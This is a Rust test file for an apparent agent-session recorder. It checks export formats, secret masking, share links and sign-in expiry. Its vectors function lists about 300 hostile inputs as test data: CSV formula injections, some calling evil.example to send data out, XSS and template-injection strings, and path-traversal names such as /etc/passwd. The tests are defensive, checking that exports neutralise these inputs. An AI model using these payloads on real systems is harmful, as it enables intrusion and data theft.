//! Sessions as files: every format, ranges, several at once, masked on the way out, and nothing in them that runs.
#![allow(clippy::unwrap_used)]

use std::io::{Cursor, Read};

use orrery_testkit::{TestServer, hook, sender_event};
use reqwest::Method;
use serde_json::{Value, json};

const KEY: &str = "ghp_Zq7abcdefghijklmnopqrstuvwxyz0123456";

async fn fetch(server: &TestServer, path: &str) -> (String, Vec<u8>) {
    let response = server.request(Method::GET, path).send().await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    let name = response.headers()["content-disposition"].to_str().unwrap().to_owned();
    (name, response.bytes().await.unwrap().to_vec())
}

async fn text(server: &TestServer, path: &str) -> String {
    String::from_utf8(fetch(server, path).await.1).unwrap()
}

async fn a_session(server: &TestServer, id: &str, title: &str) {
    server.hook("claude-code", &hook(id, "UserPromptSubmit", json!({"prompt": title}))).await.unwrap();
    let call = json!({"tool_name": "Bash", "tool_use_id": "t1", "tool_input": {"command": "cargo test"}});
    server.hook("claude-code", &hook(id, "PreToolUse", call.clone())).await.unwrap();
    let mut end = call;
    end["tool_response"] = json!({"stdout": "ok", "stderr": ""});
    server.hook("claude-code", &hook(id, "PostToolUse", end)).await.unwrap();
    server.hook("claude-code", &hook(id, "Stop", json!({}))).await.unwrap();
}

/// A server that stores secrets as they come, so that masking on the way out is seen.
async fn unmasked() -> TestServer {
    let server = TestServer::start().await.unwrap();
    let patch = json!({"redact": false});
    server.request(Method::PATCH, "/api/v1/settings").json(&patch).send().await.unwrap();
    server
}

#[tokio::test]
async fn every_format_is_masked_unless_asked_otherwise() {
    let server = unmasked().await;
    a_session(&server, "s1", &format!("Fix the cart with {KEY}")).await;
    for format in ["json", "jsonl", "csv", "md", "html"] {
        let (name, bytes) = fetch(&server, &format!("/sessions/s1/export?format={format}")).await;
        let file = String::from_utf8(bytes).unwrap();
        assert!(!file.contains(KEY) && file.contains("redacted"), "{format}: {file}");
        assert!(name.contains("fix-the-cart"), "{name}");
        assert!(name.ends_with(&format!(".{format}\"")) && name.is_ascii(), "{name}");
        assert!(!name.contains("zq7"), "the name tells no secret: {name}");
        assert!(
            text(&server, &format!("/sessions/s1/export?format={format}&redact=0")).await.contains(KEY),
            "{format}"
        );
    }
    let preview = server.get("/sessions/s1/export/preview").await.unwrap();
    assert_eq!(preview["masked"][0]["rule"], "github-pat");
    assert_eq!((&preview["sessions"], &preview["events"], &preview["complete"]), (&json!(1), &json!(4), &json!(true)));
}

#[tokio::test]
async fn ranges_and_several_sessions() {
    let server = TestServer::start().await.unwrap();
    a_session(&server, "s1", "First").await;
    a_session(&server, "s2", "Second").await;
    a_session(&server, "s3", "Second").await;
    let lines = text(&server, "/sessions/s1/export?format=jsonl").await;
    let seqs: Vec<i64> =
        lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["id"].as_i64().unwrap()).collect();
    assert_eq!(seqs.len(), 4);
    let part =
        text(&server, &format!("/sessions/s1/export?format=jsonl&from_seq={}&to_seq={}", seqs[1], seqs[2])).await;
    assert_eq!(part.lines().count(), 2);
    let none = text(&server, "/sessions/s1/export?format=jsonl&to_ms=1").await;
    assert_eq!(none, "");
    assert_eq!(text(&server, "/api/v1/export?sessions=s1,s2&format=jsonl").await.lines().count(), 8);
    let both: Value = serde_json::from_str(&text(&server, "/api/v1/export?sessions=s1,s2&format=json").await).unwrap();
    assert_eq!(both["sessions"].as_array().unwrap().len(), 2);
    assert_eq!(both["sessions"][1]["session"]["id"], "s2");
    let (name, bytes) = fetch(&server, "/api/v1/export?sessions=s1,s2,s3&format=html").await;
    assert!(name.contains("orrery-3-sessions.zip"), "{name}");
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let names: Vec<String> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
    assert_eq!(names.len(), 3, "two sessions of one title have two names: {names:?}");
    for at in 0..3 {
        let mut page = String::new();
        archive.by_index(at).unwrap().read_to_string(&mut page).unwrap();
        assert!(page.starts_with("<!doctype html>") && page.ends_with("</html>\n"));
    }
    for bad in ["/api/v1/export?format=json", "/api/v1/export?sessions=&format=html", "/sessions/s1/export?format=exe"]
    {
        assert_eq!(server.request(Method::GET, bad).send().await.unwrap().status(), 400, "{bad}");
    }
    assert_eq!(server.request(Method::GET, "/api/v1/export?sessions=s1,none").send().await.unwrap().status(), 404);
}

/// 300 ways to make a spreadsheet, a Markdown reader, a browser or an archive tool do something.
fn vectors() -> Vec<String> {
    let starts =
        ["=", "+", "-", "@", "\t=", "\r=", " =", "\u{a0}=", "\u{feff}=", "\u{200b}=", "＝", "＋", "－", "＠", "\n="];
    let tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(A1:A9)*",
        "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "WEBSERVICE(\"http://evil.example\")",
        "\"&A1",
        "'!A1",
        "0;=1",
    ];
    let mut vectors: Vec<String> =
        starts.iter().flat_map(|start| tails.iter().map(move |tail| format!("{start}{tail}"))).collect();
    let texts = [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "[a](javascript:alert(1))",
        "![a](http://evil.example/x.png)",
        "[a]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<!--</script>",
        "]]><script>",
        "{{7*7}}",
        "${7*7}",
        "`x`",
        "--><script>alert(1)</script>",
        "\u{2028}alert(1)",
    ];
    let paths = [
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/shadow",
        "C:\\x",
        "\\\\host\\share",
        "CON",
        "nul.txt",
        "a\0b",
        ".ssh/config",
        "~/x",
    ];
    vectors.extend(texts.iter().flat_map(|text| paths.iter().map(move |path| format!("{path} {text}"))));
    vectors
}

#[tokio::test]
async fn hostile_texts_are_neutral_in_every_file() {
    let server = TestServer::start().await.unwrap();
    let vectors = vectors();
    assert!(vectors.len() >= 300, "{}", vectors.len());
    for (at, vector) in vectors.iter().enumerate() {
        let mut event = sender_event("hostile", "Note");
        event["summary"] = json!(vector);
        event["payload"] = json!({"message": vector, "n": at});
        event["hook_event_type"] = json!(vector.replace(['\0', '\n', '\r'], "x"));
        server.post("/events", &event).await.unwrap();
    }
    for vector in &vectors {
        server.hook("claude-code", &hook("names", "UserPromptSubmit", json!({"prompt": vector}))).await.unwrap();
    }
    let csv = text(&server, "/sessions/hostile/export?format=csv").await;
    let rows = cells(&csv);
    assert_eq!(rows.len(), vectors.len() + 1);
    for cell in rows.iter().skip(1).flatten() {
        let first = cell.chars().find(|letter| !letter.is_whitespace() && !"\u{feff}\u{200b}".contains(*letter));
        assert!(!first.is_some_and(|first| "=+-@＝＋－＠".contains(first)), "{cell:?}");
    }
    for session in ["hostile", "names"] {
        let markdown = text(&server, &format!("/sessions/{session}/export?format=md")).await.replace("\\]", "");
        for live in ["<script", "<img", "<svg", "](", "]: j", "<javascript"] {
            assert!(!markdown.contains(live), "{live} in {session}");
        }
        let page = text(&server, &format!("/sessions/{session}/export?format=html")).await;
        let data = page.split("<script type=\"application/json\"").skip(1);
        for block in data {
            let json = block.split_once('>').unwrap().1.split_once("</script>").unwrap().0;
            assert!(serde_json::from_str::<Value>(json).is_ok(), "a block is whole: {}", &json[..json.len().min(200)]);
        }
        assert_eq!(page.matches("<script>").count(), 1, "one script, our own");
        let (name, _) = fetch(&server, &format!("/sessions/{session}/export?format=jsonl")).await;
        let file = name.split('"').nth(1).unwrap();
        assert!(
            file.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-.".contains(&byte)) && !file.contains(".."),
            "{file}"
        );
    }
}

/// A CSV file's rows (RFC 4180).
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.push(letters.next().unwrap()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell).trim_end_matches('\r').to_owned());
                rows.push(std::mem::take(&mut row));
            }
            letter => cell.push(letter),
        }
    }
    rows
}

#[tokio::test]
async fn a_shared_link_shows_one_session_and_nothing_else() {
    let server = TestServer::start().await.unwrap();
    a_session(&server, "s1", "Fix the cart").await;
    a_session(&server, "s2", "Secret plans").await;
    let shared = server.post("/api/v1/shares", &json!({"session": "s1", "days": 1})).await.unwrap();
    let url = shared["url"].as_str().unwrap();
    let link = url.rsplit('/').next().unwrap();
    assert_eq!(link.len(), 64, "256 bits");
    let page = server.client.get(url).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let headers = page.headers().clone();
    assert!(headers["x-robots-tag"].to_str().unwrap().contains("noindex"));
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(policy.contains("sandbox allow-scripts") && policy.contains("default-src 'none'"), "{policy}");
    assert_eq!(headers["referrer-policy"], "no-referrer");
    let body = page.text().await.unwrap();
    assert!(body.contains("Fix the cart") && !body.contains("Secret plans"));
    for path in ["/sessions/s1", "/sessions/s1/export", "/api/v1/sessions/s1", "/api/v1/grants", "/events/recent"] {
        for given in [server.bare(Method::GET, path), server.bare(Method::GET, path).bearer_auth(link)] {
            assert_eq!(given.send().await.unwrap().status(), 401, "{path}");
        }
        let cookie = format!("orrery_session_{}={link}", server.running.port());
        let with_cookie = server.bare(Method::GET, path).header("cookie", cookie).send().await.unwrap();
        assert_eq!(with_cookie.status(), 401, "{path}");
    }
    let grants = server.get("/api/v1/grants").await.unwrap();
    assert!(!grants.to_string().contains(link), "the link is told once");
    assert!(grants[0]["used_ms"].is_i64());
    let id = grants[0]["id"].as_str().unwrap();
    let ended = server.request(Method::DELETE, &format!("/api/v1/grants/{id}")).send().await.unwrap();
    assert_eq!(ended.status(), 204);
    let gone = server.client.get(url).send().await.unwrap();
    let (status, gone) = (gone.status(), gone.text().await.unwrap());
    let guessed = server.client.get(server.url(&format!("/shared/{}", "0".repeat(64)))).send().await.unwrap();
    assert_eq!((status.as_u16(), guessed.status().as_u16()), (404, 404));
    assert_eq!(guessed.text().await.unwrap(), gone, "a guess and an ended link look the same");
    let mut last = 404;
    for at in 0..100 {
        let guess = server.client.get(server.url(&format!("/shared/{at}"))).send().await.unwrap();
        last = guess.status().as_u16();
    }
    assert_eq!(last, 429, "guessers wait");
}

#[tokio::test]
async fn links_and_sign_ins_end_and_are_kept_hashed() {
    let homes = orrery_testkit::Homes::new().unwrap();
    let now_ms = 1_795_348_800_000;
    let server = TestServer::at(homes, now_ms, None).await.unwrap();
    a_session(&server, "s1", "Fix the cart").await;
    let shared = server.post("/api/v1/shares", &json!({"session": "s1", "days": 2})).await.unwrap();
    let url = shared["url"].as_str().unwrap().to_owned();
    let link = url.rsplit('/').next().unwrap().to_owned();
    assert_eq!(server.client.get(&url).send().await.unwrap().status(), 200);
    server.set_now_ms(now_ms + 2 * 86_400_000);
    assert_eq!(server.client.get(&url).send().await.unwrap().status(), 404);
    for (body, status) in [(json!({"session": "none"}), 404), (json!({"session": "s1", "days": 9999}), 400)] {
        let refused = server.request(Method::POST, "/api/v1/shares").json(&body).send().await.unwrap();
        assert_eq!(refused.status(), status);
    }
    let first = server.client.get(server.running.one_time_link("/app/")).send().await.unwrap();
    let cookie = first.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
    let secret = cookie.split('=').nth(1).unwrap().to_owned();
    assert_ne!(secret, server.running.token(), "a browser never holds the token");
    let read = async || {
        let read = server.bare(Method::GET, "/api/v1/overview").header("cookie", &cookie);
        read.send().await.unwrap().status().as_u16()
    };
    assert_eq!(read().await, 200);
    server.set_now_ms(now_ms + 100 * 86_400_000);
    assert_eq!(read().await, 401, "a sign-in ends");
    let data_dir = server.homes.data_dir();
    let _homes = server.stop().await;
    for file in std::fs::read_dir(data_dir).unwrap().flatten().filter(|file| file.path().is_file()) {
        let bytes = std::fs::read(file.path()).unwrap();
        for kept in [&link, &secret] {
            assert!(!bytes.windows(64).any(|part| part == kept.as_bytes()), "{}", file.path().display());
        }
    }
}

#[tokio::test]
async fn a_signed_in_browser_stays_over_a_restart_and_can_be_signed_out() {
    let server = TestServer::start().await.unwrap();
    let first = server.client.get(server.running.one_time_link("/app/")).send().await.unwrap();
    let value = first.headers()["set-cookie"].to_str().unwrap().split(['=', ';']).nth(1).unwrap().to_owned();
    let homes = server.stop().await;
    let server = TestServer::over(homes, |_| {}).await.unwrap();
    let cookie = format!("orrery_session_{}={value}", server.running.port());
    let read = async || server.bare(Method::GET, "/api/v1/grants").header("cookie", &cookie).send().await.unwrap();
    let grants: Value = read().await.json().await.unwrap();
    assert_eq!((&grants[0]["kind"], &grants[0]["current"]), (&json!("browser"), &json!(true)));
    let id = grants[0]["id"].as_str().unwrap();
    server.request(Method::DELETE, &format!("/api/v1/grants/{id}")).send().await.unwrap();
    assert_eq!(read().await.status(), 401);
}
